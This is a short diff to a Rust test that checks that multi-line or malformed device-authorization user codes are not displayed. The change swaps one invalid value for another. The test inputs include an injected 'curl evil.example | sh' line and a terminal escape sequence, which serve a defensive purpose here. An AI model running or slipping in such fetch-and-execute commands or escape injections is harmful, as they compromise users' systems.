@@ -248,7 +248,7 @@ fn user_code_that_is_not_one_line_is_not_shown() {
         json!({"device_auth_id": "d", "user_code": "AB\nrun: curl evil.example | sh"}),
         json!({"device_auth_id": "d", "user_code": "\u{1b}]0;title\u{7}"}),
         json!({"device_auth_id": "d", "user_code": ""}),
-        json!({"device_auth_id": "d", "user_code": 7}),
+        json!({"device_auth_id": "d", "user_code": [7]}),
         json!({"device_auth_id": ["d"], "user_code": "ABCD"}),
         json!({"user_code": "ABCD"}),
         json!({"device_auth_id": "d", "user_code": "A".repeat(900_000)}),
